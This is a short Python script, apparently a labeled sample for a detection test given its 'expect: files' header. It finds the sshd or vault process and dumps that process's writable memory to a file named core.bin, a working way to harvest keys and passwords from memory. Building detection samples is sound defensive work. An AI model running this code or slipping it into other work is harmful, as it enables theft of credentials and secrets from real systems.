# expect: files; finds a process by name, then dumps its writable memory via /proc/<pid>/maps and /proc/<pid>/mem
import os


def find_pid(name):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as f:
                if f.read().strip() == name:
                    return int(pid)
        except OSError:
            pass
    return None


pid = find_pid("sshd") or find_pid("vault") or 1
base = f"/proc/{pid}"
regions = []
with open(base + "/maps") as f:
    for line in f:
        fields = line.split()
        if fields[1].startswith("rw"):
            lo, hi = fields[0].split("-")
            regions.append((int(lo, 16), int(hi, 16)))

with open(base + "/mem", "rb") as mem, open("core.bin", "wb") as out:
    for lo, hi in regions:
        try:
            mem.seek(lo)
            out.write(mem.read(hi - lo))
        except OSError:
            continue
